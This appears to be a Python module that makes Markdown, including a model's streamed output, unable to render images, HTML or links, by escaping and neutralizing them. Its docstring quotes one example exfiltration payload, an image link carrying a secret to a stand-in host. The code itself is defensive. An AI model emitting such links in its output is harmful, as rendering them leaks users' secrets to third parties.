"""Markdown that cannot do more than be read: no images, no HTML, no links, no control characters.

An editor that renders `![](http://host/?q=secret)` tells that host the secret, and documentation, names and what a
model writes can all hold such text.
"""

import re
import unicodedata
from collections.abc import AsyncIterator

# What has a meaning in Markdown wherever it stands, and what has one only where a line begins. No more than that is
# escaped, because some editors show the text as it is.
_ANYWHERE = re.compile(r"[\\`*_\[\]<>|~&$]|:(?=//)|(?<=www)\.")
_LEADING = re.compile(r"(?m)^([ \t]*)([#+=-])")
_NUMBERED = re.compile(r"(?m)^([ \t]*\d{1,9})([.)])")
# A list or heading is worth keeping in documentation; only what could become a link, an image or HTML is not.
_FENCE = re.compile(r"(`{3,}|~{3,})[^`]*")
_IMAGE = re.compile(r"!(?=\[)")
_LINK = re.compile(r"\](?=[(:\[])")
_TAG = re.compile(r"<(?=[A-Za-z/!?])")


def escape(text: str) -> str:
    """Text that is shown as it is, whatever it holds. Line ends stay."""
    shown = _ANYWHERE.sub(r"\\\g<0>", visible(text))
    return _NUMBERED.sub(r"\1\\\2", _LEADING.sub(r"\1\\\2", shown))


def fenced(code: str, language: str) -> str:
    """A block of code. The fence is longer than any run of backticks in it."""
    longest = max((len(run) for run in re.findall(r"`+", code)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{re.sub(r'[^a-z0-9+#-]', '', language)}\n{visible(code)}\n{fence}"


def visible(text: str) -> str:
    """Text without characters that are not seen: control, formatting (bidirectional, zero width, tags), surrogates."""
    if text.isascii() and text.isprintable():
        return text
    return "".join(char for char in text if char in "\n\t" or unicodedata.category(char) not in ("Cc", "Cf", "Cs"))


class Cleaner:
    """Makes a model's Markdown harmless while it streams: whole lines go out, what is in fences unchanged.

    Only a fence that begins its line is one: inside lists and quotations renderers end code earlier than it seems.
    """

    def __init__(self) -> None:
        self._rest = ""
        self._fence = ""

    def feed(self, piece: str) -> str:
        """The lines that this piece completes."""
        *lines, self._rest = (self._rest + piece).split("\n")
        return "".join(f"{self._line(line)}\n" for line in lines)

    def end(self) -> str:
        """What is left, with an open fence closed."""
        last = self._line(self._rest) if self._rest else ""
        closing = f"\n{self._fence}" if self._fence else ""
        self._rest = self._fence = ""
        return last + closing

    def _line(self, line: str) -> str:
        line = visible(line)
        if self._fence:
            mark = line.rstrip()
            if mark.startswith(self._fence) and not mark.strip(self._fence[0]):
                self._fence = ""
            return line
        if fence := _FENCE.fullmatch(line):
            self._fence = fence[1]
            return line
        # A space is seen and understood, in a code span too, where a backslash would be taken for code.
        return _TAG.sub("< ", _LINK.sub("] ", _IMAGE.sub("! ", line)))


async def cleaned(pieces: AsyncIterator[str]) -> AsyncIterator[str]:
    """The same stream made harmless, line by line."""
    cleaner = Cleaner()
    async for piece in pieces:
        if text := cleaner.feed(piece):
            yield text
    if text := cleaner.end():
        yield text
